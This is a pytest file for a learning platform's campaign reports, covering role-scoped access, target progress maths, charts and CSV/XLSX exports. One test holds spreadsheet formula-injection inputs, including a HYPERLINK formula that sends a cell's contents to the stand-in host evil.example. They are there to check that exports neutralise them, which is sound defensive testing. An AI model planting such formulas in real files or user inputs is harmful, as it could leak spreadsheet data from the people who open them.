"""Campaign reports over HTTP: who sees which units, target arithmetic, charts and exports."""
from __future__ import annotations

import csv
import re

import io
import itertools
import secrets
from datetime import date, datetime, timedelta, timezone

import openpyxl
from sqlalchemy import select
import pytest

from lms.extensions import db
from lms.models import Certificate, OrgUnit, Target, User
from lms.campaign import dashboard, snapshot, targets
from lms.services import certificates, clock
from lms.services.audit import Actor
from lms.services.accounts import HASHER
from lms.campaign.units import add_units

from conftest import PASSWORD, UNITS, complete_through_the_record

PASSWORD_HASH = HASHER.hash(PASSWORD)


def english(client):
    """Tests read the English interface, so they keep passing once translations arrive."""
    client.get("/language/en")
    return client


class World:
    """Units, people and certificates written straight to the database; sign-in over HTTP."""

    numbers = itertools.count(1)

    def __init__(self, app):
        self.app = app
        with app.app_context():
            add_units(db.session, UNITS)
            db.session.commit()

    def unit(self, code: str) -> OrgUnit:
        return db.session.query(OrgUnit).filter_by(code=code).one()

    def person(self, name: str, unit: str, role: str = "learner", audience: str = "citizen",
               birth_year: int | None = None, scope: str | None = None,
               position: str | None = None) -> str:
        """Adds someone; returns the phone number they sign in with."""
        number = next(self.numbers)
        with self.app.app_context():
            db.session.add(User(
                phone=f"+84912{number:06d}", full_name=name, password_hash=PASSWORD_HASH,
                org_unit_id=self.unit(unit).id, role=role, audience=audience,
                birth_year=birth_year, position=position, session_token=secrets.token_hex(8),
                scope_unit_id=self.unit(scope).id if scope else None))
            db.session.commit()
        return f"0912{number:06d}"

    def user_id(self, phone: str) -> int:
        with self.app.app_context():
            return db.session.query(User).filter_by(phone="+84" + phone[1:]).one().id

    def certify(self, phone: str, program: str = "citizen-basic", issued: datetime | None = None,
                revoked: bool = False) -> str:
        """Completes every course of `program` through the record, as the learner would, at
        `issued`; returns the program certificate's code (revoked by an administrator if asked)."""
        when = issued or datetime.now(timezone.utc) - timedelta(hours=1)
        catalog = self.app.extensions["lms.catalog"]
        with self.app.app_context():
            user = db.session.get(User, self.user_id(phone))
            for slug in catalog.program(program).courses:
                complete_through_the_record(db.session, user, catalog, catalog.course(slug), when)
            certificate = db.session.scalar(select(Certificate).where(
                Certificate.user_id == user.id, Certificate.kind == "program",
                Certificate.subject_slug == program, Certificate.revoked_at.is_(None)))
            assert certificate is not None, f"{phone} did not earn {program}"
            if revoked:
                certificates.revoke(db.session, certificate, "test", Actor.command_line(),
                                    when + timedelta(minutes=1))
            db.session.commit()
            return certificate.code

    def complete_course(self, phone: str, course, when: datetime | None = None) -> None:
        """Every lesson marked done and the quiz passed, through the record."""
        when = when or datetime.now(timezone.utc) - timedelta(hours=2)
        catalog = self.app.extensions["lms.catalog"]
        with self.app.app_context():
            user = db.session.get(User, self.user_id(phone))
            complete_through_the_record(db.session, user, catalog, course, when)
            db.session.commit()

    def target(self, unit: str, value: int, kind: str = "count", audience: str = "citizen",
               program: str = "citizen-basic", deadline: date | None = None) -> None:
        with self.app.app_context():
            db.session.add(Target(org_unit_id=self.unit(unit).id, program_slug=program,
                                  audience=audience, kind=kind, value=value,
                                  deadline=deadline or clock.today() + timedelta(days=9)))
            db.session.commit()

    def client(self, phone: str):
        client = self.app.test_client()
        response = client.post("/login", data={"identifier": phone, "password": PASSWORD})
        assert response.status_code == 302, response.get_data(as_text=True)
        return client


@pytest.fixture
def world(app):
    return World(app)


@pytest.fixture
def people(world):
    """Two provinces with people at every level, and staff of each role."""
    return {
        "lan": world.person("Nguyễn Thị Lan", "P-C1", birth_year=1999),
        "hung": world.person("Trần Văn Hùng", "P-C1-G1", birth_year=1980),
        "mai": world.person("Lê Thị Mai", "P-C2", birth_year=1960),
        "tuan": world.person("Phạm Minh Tuấn", "P", audience="civil-servant", birth_year=1970,
                             position="Chuyên viên"),
        "other": world.person("Võ Văn Khác", "Q-C1"),
        "manager": world.person("Đỗ Quản Lý", "P-C1", role="manager", scope="P-C1",
                                audience="civil-servant"),
        "organiser": world.person("Hà Tổ Chức", "P", role="organiser", scope="P",
                                  audience="civil-servant"),
        "admin": world.person("Quản Trị", "Q", role="admin"),
        "trainer": world.person("Giảng Viên", "P-C2", role="trainer"),
    }


REPORT_URLS = ["/reports/", "/reports/units/P/", "/reports/units/P-C1/",
               "/reports/units/P/people.csv", "/reports/units/P/units.xlsx",
               "/reports/assignments/", "/reports/targets/"]


@pytest.mark.parametrize("role", ["lan", "trainer"])
def test_learners_and_trainers_are_refused_every_report_page_and_export(world, people, role):
    client = world.client(people[role])
    for url in REPORT_URLS:
        assert client.get(url).status_code == 403, url


def test_reports_need_signing_in(client, people):
    response = client.get("/reports/units/P/people.csv")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


VISIBLE = {
    "manager": {"P-C1", "P-C1-G1"},
    "organiser": {"P", "P-C1", "P-C1-G1", "P-C2"},
    "admin": {"P", "P-C1", "P-C1-G1", "P-C2", "Q", "Q-C1"},
}


@pytest.mark.parametrize("role", sorted(VISIBLE))
def test_each_role_sees_exactly_its_units_in_pages_and_exports(world, people, role):
    client = world.client(people[role])
    for unit in UNITS:
        code = unit["code"]
        expected = 200 if code in VISIBLE[role] else 404
        for url in (f"/reports/units/{code}/", f"/reports/units/{code}/people.csv",
                    f"/reports/units/{code}/people.xlsx", f"/reports/units/{code}/units.csv"):
            assert client.get(url).status_code == expected, url
    assert client.get("/reports/units/NO-SUCH-UNIT/").status_code == 404


def test_the_dashboard_starts_at_the_scope_and_shows_only_units_below(world, people):
    page = world.client(people["manager"]).get("/reports/").get_data(as_text=True)
    assert "<h1>Xã Một</h1>" in page and "/reports/units/P-C1-G1/" in page
    assert "Phường Hai" not in page and "Tỉnh Khác" not in page
    everything = world.client(people["admin"]).get("/reports/").get_data(as_text=True)
    assert "/reports/units/P/" in everything and "/reports/units/Q/" in everything


def test_a_manager_export_lists_only_people_in_their_units(world, people):
    text = world.client(people["manager"]).get("/reports/units/P-C1/people.csv").data.decode()
    assert "Nguyễn Thị Lan" in text and "Trần Văn Hùng" in text and "Đỗ Quản Lý" in text
    for outside in ("Lê Thị Mai", "Phạm Minh Tuấn", "Võ Văn Khác"):
        assert outside not in text
    whole = world.client(people["organiser"]).get("/reports/units/P/people.csv").data.decode()
    assert "Lê Thị Mai" in whole and "Võ Văn Khác" not in whole


def test_a_manager_without_a_scope_unit_sees_nothing(world, people):
    phone = world.person("Chưa Phân Công", "P-C1", role="manager")
    client = world.client(phone)
    assert client.get("/reports/").status_code == 403
    assert client.get("/reports/units/P-C1/").status_code == 404


def _dashboard(app, code):
    with app.app_context():
        unit = db.session.query(OrgUnit).filter_by(code=code).one()
        return dashboard.dashboard(db.session, unit, app.extensions["lms.catalog"], clock.today())


def test_a_count_target_counts_valid_program_certificates_of_its_audience(app, world, people):
    world.target("P", 4)
    world.certify(people["lan"])
    world.certify(people["hung"])
    world.certify(people["mai"], revoked=True)  # revoked: not counted
    world.certify(people["tuan"], "civil-servant")  # another audience and program
    world.certify(people["other"])  # another province
    report = _dashboard(app, "P")
    progress = report.targets[0].progress
    # citizens in P: Lan, Hùng, Mai and the trainer (the manager and organiser are civil servants)
    assert (progress.registered, progress.certified, progress.goal, progress.percent) == (4, 2, 4, 50)
    assert (progress.remaining, progress.days_left) == (2, 9)
    page = english(world.client(people["organiser"])).get("/reports/units/P/").get_data(as_text=True)
    assert "2 people still to certify in 9 days" in page and "a day" not in page
    page = world.client(people["organiser"]).get("/reports/units/P/").get_data(as_text=True)
    assert "2 / 4 · 50%" in page


def test_a_certificate_issued_after_today_does_not_count_yet(app, world, people):
    world.target("P", 1)
    tomorrow = clock.day_start_utc(clock.today() + timedelta(days=1)) + timedelta(minutes=1)
    world.certify(people["lan"], issued=tomorrow)
    assert _dashboard(app, "P").targets[0].progress.certified == 0


def test_a_percent_target_is_a_share_of_the_audience_rounded_up(app, world, people):
    world.target("P", 50, kind="percent")
    world.target("P", 80, kind="percent", audience="civil-servant", program="civil-servant")
    world.certify(people["mai"])
    world.certify(people["tuan"], "civil-servant")
    citizens, servants = (t.progress for t in _dashboard(app, "P").targets)
    assert (citizens.registered, citizens.goal, citizens.certified, citizens.percent) == (4, 2, 1, 50)
    # civil servants in P: Tuấn, the manager and the organiser; 80% of 3 is 2.4, so 3
    assert (servants.registered, servants.goal, servants.certified, servants.percent) == (3, 3, 1, 33)
    with app.app_context():
        measured = {(t.target.audience, t.certified, t.goal) for t in
                    targets.visible_targets(db.session, db.session.get(
                        User, world.user_id(people["organiser"])), clock.today())}
    assert measured == {("citizen", 1, 2), ("civil-servant", 1, 3)}


def test_sub_units_add_up_to_the_parent(app, world, people):
    world.target("P", 3)
    for phone in (people["lan"], people["hung"], people["mai"]):
        world.certify(phone)
    report = _dashboard(app, "P")
    assert sum(row.tally.people for row in report.sub_units) == report.total.people == 7
    assert sum(row.tally.certified for row in report.sub_units) == report.total.certified == 3
    names = [row.unit.name if row.unit else None for row in report.sub_units]
    assert names == ["Phường Hai", "Xã Một", None]  # None: people directly in the province
    rows = report.targets[0].rows
    assert sum(row.registered for row in rows) == report.targets[0].progress.registered
    assert sum(row.certified for row in rows) == report.targets[0].progress.certified
    commune = _dashboard(app, "P-C1")
    assert commune.total.people == next(r.tally.people for r in report.sub_units
                                        if r.unit and r.unit.code == "P-C1")


def test_the_pace_is_people_still_to_certify_and_days_left():
    today = date(2026, 12, 1)
    target = Target(kind="count", value=30, deadline=date(2026, 12, 5))
    progress = targets.TargetProgress(target, registered=100, certified=20, today=today)
    assert (progress.remaining, progress.days_left) == (10, 4)
    late = targets.TargetProgress(target, registered=100, certified=20, today=date(2026, 12, 6))
    assert late.days_left < 0
    done = targets.TargetProgress(target, registered=100, certified=31, today=date(2026, 12, 6))
    assert (done.remaining, done.percent) == (0, 100)


def test_breakdowns_by_audience_and_age_group(app, world, people):
    world.certify(people["mai"])
    report = _dashboard(app, "P")
    year = clock.today().year
    assert report.by_audience["citizen"].people == 4
    assert report.by_audience["civil-servant"].people == 3
    ages = {group: tally.people for group, tally in report.by_age.items()}
    expected = {"under-30": 0, "30-44": 0, "45-59": 0, "60-plus": 0, "unknown": 0}
    for born in (1999, 1980, 1960, 1970):
        age = year - born
        expected["under-30" if age < 30 else "30-44" if age < 45 else "45-59" if age < 60
                 else "60-plus"] += 1
    expected["unknown"] = 3  # the manager, the organiser and the trainer gave no year
    assert ages == expected
    assert report.by_age["60-plus" if year - 1960 >= 60 else "45-59"].certified == 1


def test_completions_per_day_chart_is_inline_svg_without_style(app, world, people):
    now = datetime.now(timezone.utc)
    world.certify(people["lan"], issued=now - timedelta(days=2))
    world.certify(people["hung"], issued=now - timedelta(days=2, minutes=5))
    world.certify(people["mai"], issued=now - timedelta(days=40))  # too old for the chart
    report = _dashboard(app, "P")
    assert len(report.completions) == 30 and sum(n for _, n in report.completions) == 2
    page = world.client(people["organiser"]).get("/reports/units/P/").get_data(as_text=True)
    assert page.count('<svg class="chart" viewBox="0 0 320') == 3
    charts = re.findall(r"<svg.*?</svg>", page, re.S)
    assert len(charts) == 3 and not any("<script" in chart for chart in charts)
    assert "style=" not in page  # the CSP allows no inline style
    assert 'role="img" aria-label=' in page and "<details>" in page


def test_people_csv_starts_with_a_bom_and_keeps_vietnamese(bundled_catalog, world, people):
    issued = datetime.now(timezone.utc) - timedelta(hours=1)
    code = world.certify(people["hung"], issued=issued)  # its three courses, then the program
    response = world.client(people["manager"]).get("/reports/units/P-C1/people.csv")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    lines = response.data.decode("utf-8-sig").splitlines()
    row = next(line for line in lines if line.startswith("Trần Văn Hùng"))
    day = issued.astimezone(clock.VIETNAM).date()
    written = f"{day.day}/{day.month}/{day.year}"  # as Vietnamese write a day
    assert code in row and row.count(written) == 4 and "Tổ dân phố Một" in row
    assert len(lines) == 1 + 3  # heading, then Lan, Hùng and the manager


def test_people_xlsx_reads_back_with_openpyxl(bundled_catalog, world, people):
    issued = datetime.now(timezone.utc) - timedelta(hours=1)
    code = world.certify(people["tuan"], "civil-servant", issued=issued)
    response = world.client(people["organiser"]).get("/reports/units/P/people.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1 + 7
    tuan = next(row for row in rows if row[0] == "Phạm Minh Tuấn")
    assert tuan[3] == "Chuyên viên" and code in tuan
    day = issued.astimezone(clock.VIETNAM).date()
    assert any(isinstance(value, datetime) and value.date() == day for value in tuan)


def test_unit_summary_export_counts_each_unit_with_everyone_below(world, people):
    world.certify(people["hung"])
    response = world.client(people["organiser"]).get("/reports/units/P/units.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {"P", "P-C1", "P-C1-G1", "P-C2"}
    assert by_code["P"][4] == "7" and by_code["P-C1"][4] == "3" and by_code["P-C1-G1"][4] == "1"
    assert by_code["P"][7] == by_code["P-C1"][7] == by_code["P-C1-G1"][7] == "1"


def test_a_target_is_set_through_the_form_within_scope_only(world, people):
    client = world.client(people["manager"])
    deadline = (clock.today() + timedelta(days=30)).isoformat()
    form = {"unit": "P-C1", "program": "citizen-basic", "audience": "citizen",
            "kind": "percent", "value": "80", "deadline": deadline}
    assert client.post("/reports/targets/", data=form).status_code == 302
    page = client.get("/reports/targets/").get_data(as_text=True)
    assert "Xã Một" in page and "80%" in page
    outside = client.post("/reports/targets/", data={**form, "unit": "P"})
    assert outside.status_code == 422
    too_much = client.post("/reports/targets/", data={**form, "value": "120"})
    assert too_much.status_code == 422
    assert "Tỉnh Thử Nghiệm" not in client.get("/reports/targets/").get_data(as_text=True)


# The reporting snapshot must say exactly what counting live says.


def _snapshot_and_live(app, code, bundled_catalog):
    from lms.campaign import assignments

    with app.app_context():
        unit = db.session.query(OrgUnit).filter_by(code=code).one()
        today_ = clock.today()
        live = dashboard.dashboard(db.session, unit, bundled_catalog, today_)
        live_assigned = assignments.summaries(db.session, unit.path, bundled_catalog, today_)
        made = snapshot.refresh(db.session, today_)
        db.session.commit()
        fast = dashboard.dashboard(db.session, unit, bundled_catalog, today_, made)
        fast_assigned = assignments.summaries(db.session, unit.path, bundled_catalog, today_,
                                              snapshot=made)
        return live, fast, live_assigned, fast_assigned


def _figures(report):
    return (report.total, report.by_audience, report.by_age,
            [(row.unit.code if row.unit else None, row.tally, row.by_audience)
             for row in report.sub_units],
            [(view.progress.certified, view.progress.goal, view.progress.registered,
              [(row.row.unit.code if row.row.unit else None, row.registered, row.certified,
                row.expected, row.gap) for row in view.rows]) for view in report.targets],
            report.completions)


@pytest.mark.parametrize("code", ["P", "P-C1"])
def test_the_snapshot_dashboard_equals_counting_live(app, world, people, bundled_catalog, code):
    from tests.test_assignments import assign

    world.target("P", 3)
    world.target("P", 50, kind="percent", audience="civil-servant", program="civil-servant")
    world.certify(people["lan"])
    world.certify(people["hung"], issued=datetime.now(timezone.utc) - timedelta(days=3))
    world.certify(people["mai"], revoked=True)
    world.certify(people["tuan"], program="civil-servant")
    world.complete_course(people["hung"], bundled_catalog.course("ai-basics"))
    assign(world, "course:ai-basics", 3, unit="P")
    assign(world, "program:citizen-basic", -2, unit="P-C1")
    live, fast, live_assigned, fast_assigned = _snapshot_and_live(app, code, bundled_catalog)
    assert fast.counted_at is not None and live.counted_at is None
    assert live.total.people > 0 and live.total.certified > 0
    assert _figures(fast) == _figures(live)
    assert [(a.assigned, a.done, a.state, a.pending) for a in fast_assigned] == \
        [(a.assigned, a.done, a.state, a.pending) for a in live_assigned]


def test_a_stale_snapshot_is_not_used(app, world, people):
    world.certify(people["lan"])
    with app.app_context():
        snapshot.refresh(db.session, clock.today())
        db.session.commit()
        assert snapshot.fresh_snapshot(db.session, timedelta(minutes=15)) is not None
        assert snapshot.fresh_snapshot(db.session, timedelta(seconds=-1)) is None


def test_the_dashboard_page_says_when_its_figures_were_counted(app, world, people):
    organiser = world.client(people["organiser"])
    assert "Số liệu được tính lúc" not in organiser.get("/reports/units/P/").get_data(as_text=True)
    result = app.test_cli_runner().invoke(args=["reports", "refresh"])
    assert result.exit_code == 0 and "reporting snapshot refreshed" in result.output
    assert "Số liệu được tính lúc" in organiser.get("/reports/units/P/").get_data(as_text=True)


# Review fixes: exports of hostile names and unusual unit codes.

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-3+4", "@SUM(1)",
            "\t=1+1"]


def test_exports_never_turn_a_name_or_position_into_a_formula(world, people):
    for index, text in enumerate(FORMULAS):
        world.person(text, "P-C2", position=text if index % 2 else None)
    client = world.client(people["organiser"])
    csv_text = client.get("/reports/units/P/people.csv").data.decode("utf-8-sig")
    import csv as csv_module
    cells = [cell for row in csv_module.reader(io.StringIO(csv_text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULAS[0] in cells
    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/units/P/people.xlsx").data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert FORMULAS[0] in [cell.value for cell in cells]


@pytest.mark.parametrize("code", ["P:1[2]", "PHƯỜNG-BA", 'P"x'])
def test_exports_work_for_any_unit_code(world, people, code):
    with world.app.app_context():
        add_units(db.session, [{"code": code, "name": "Đơn vị lạ", "parent_code": "P",
                                "kind": "ward"}])
        db.session.commit()
    world.person("Người Ở Đơn Vị Lạ", code)
    client = world.client(people["organiser"])
    from urllib.parse import quote
    for what, fmt in itertools.product(("people", "units"), ("csv", "xlsx")):
        response = client.get(f"/reports/units/{quote(code)}/{what}.{fmt}")
        assert response.status_code == 200, (what, fmt)
        assert response.data  # read to the end, as a browser would, which ends the stream
        # A WSGI server sends headers as Latin-1 and refuses anything else.
        response.headers["Content-Disposition"].encode("ascii")


def test_a_percentage_of_nobody_is_not_a_reached_target(app, world, people):
    world.target("P-C2", 80, kind="percent", audience="civil-servant", program="civil-servant")
    [view] = _dashboard(app, "P-C2").targets
    assert (view.progress.registered, view.progress.goal, view.progress.percent) == (0, 0, 0)
    assert not view.progress.has_members
    page = world.client(people["organiser"]).get("/reports/units/P-C2/").get_data(as_text=True)
    assert "Target reached" not in page and "Đã đạt chỉ tiêu" not in page


def _target_ids(app):
    with app.app_context():
        return [t.id for t in db.session.query(Target).order_by(Target.id)]


def test_a_target_is_removed_only_after_confirming_and_within_scope(app, world, people):
    world.target("P", 3)
    world.target("Q", 3)
    on_p, on_q = _target_ids(app)
    organiser = world.client(people["organiser"])  # responsible for P only
    confirm = organiser.get(f"/reports/targets/{on_p}/remove")
    assert confirm.status_code == 200 and _target_ids(app) == [on_p, on_q]  # asking deletes nothing
    assert organiser.post(f"/reports/targets/{on_q}/remove").status_code == 404
    assert world.client(people["manager"]).post(f"/reports/targets/{on_p}/remove").status_code == 404
    assert world.client(people["lan"]).post(f"/reports/targets/{on_p}/remove").status_code == 403
    assert _target_ids(app) == [on_p, on_q]
    removed = organiser.post(f"/reports/targets/{on_p}/remove")
    assert removed.headers["Location"] == "/reports/targets/" and _target_ids(app) == [on_q]


# --- real denominators, pace and lagging units first (issue 11, items 2 and 3) -------------

def _set_expected(world, code: str, residents=None, civil_servants=None) -> None:
    with world.app.app_context():
        unit = world.unit(code)
        unit.expected_residents, unit.expected_civil_servants = residents, civil_servants
        db.session.commit()


def test_a_percent_target_counts_against_the_expected_residents(app, world, people):
    """The ward with one registered resident no longer reads "reached" when she passes."""
    world.target("P-C2", 50, kind="percent")
    world.certify(people["mai"])  # the one citizen registered in P-C2
    organiser = english(world.client(people["organiser"]))
    fallback = organiser.get("/reports/units/P-C2/").get_data(as_text=True)
    assert "Target: 50% of the 2 registered people, that is 1" in fallback
    assert "has no expected number of citizens" in fallback
    _set_expected(world, "P-C2", residents=10)
    [view] = _dashboard(app, "P-C2").targets
    progress = view.progress
    assert (progress.registered, progress.certified, progress.expected, progress.goal,
            progress.remaining) == (2, 1, 10, 5, 4)
    page = organiser.get("/reports/units/P-C2/").get_data(as_text=True)
    assert "Target: 50% of the 10 expected people, that is 5" in page
    assert "Registered: 2" in page and "Certified: 1" in page and "Expected: 10" in page
    assert "Target reached" not in page and "has no expected number" not in page
    assert "4 people still to certify in 9 days" in page


def test_a_target_the_program_can_never_meet_is_refused(world, people):
    response = english(world.client(people["organiser"])).post("/reports/targets/", data={
        "unit": "P", "program": "civil-servant", "audience": "citizen", "kind": "percent",
        "value": "50", "deadline": (clock.today() + timedelta(days=30)).isoformat()})
    assert response.status_code == 422
    assert "for civil servants only" in response.get_data(as_text=True)
    with world.app.app_context():
        assert db.session.query(Target).count() == 0


def _row_names(page: str, table_id: str) -> list[str]:
    import re
    table = page[page.index(f'id="{table_id}"'):]
    body = table[table.index("<tbody>"):table.index("</tbody>")]
    return [re.sub(r"<[^>]+>", "", cell) for cell in re.findall(r'<th scope="row">(.*?)</th>',
                                                                  body)]


def test_sub_units_come_lagging_first_sort_by_gap_and_filter_below_a_share(world, people):
    world.certify(people["mai"])  # Phường Hai: 1 of 1 citizen certified
    _set_expected(world, "P-C2", residents=4, civil_servants=0)  # 4 adults expected there
    _set_expected(world, "P-C1", residents=2, civil_servants=1)
    organiser = english(world.client(people["organiser"]))
    page = organiser.get("/reports/units/P/").get_data(as_text=True)
    # Xã Một 0 of 3 expected (0%, 3 to go); directly in P 0 of 2 registered (0%, 2 to go);
    # Phường Hai 1 of 4 expected (25%, 3 to go).
    direct = "Directly in this unit"
    assert _row_names(page, "sub-unit-table") == ["Xã Một", direct, "Phường Hai"]
    assert 'aria-sort="ascending"><a href="/reports/units/P/?sort=percent' in page
    by_gap = organiser.get("/reports/units/P/?sort=gap").get_data(as_text=True)
    assert _row_names(by_gap, "sub-unit-table") == ["Xã Một", "Phường Hai", direct]
    assert 'aria-sort="descending"' in by_gap
    by_name = organiser.get("/reports/units/P/?sort=name").get_data(as_text=True)
    assert _row_names(by_name, "sub-unit-table") == ["Phường Hai", "Xã Một", direct]
    below = organiser.get("/reports/units/P/?below=10").get_data(as_text=True)
    assert _row_names(below, "sub-unit-table") == ["Xã Một", direct]
    assert "only units below 10%" in below
    nonsense = organiser.get("/reports/units/P/?sort=evil&below=abc")
    assert nonsense.status_code == 200
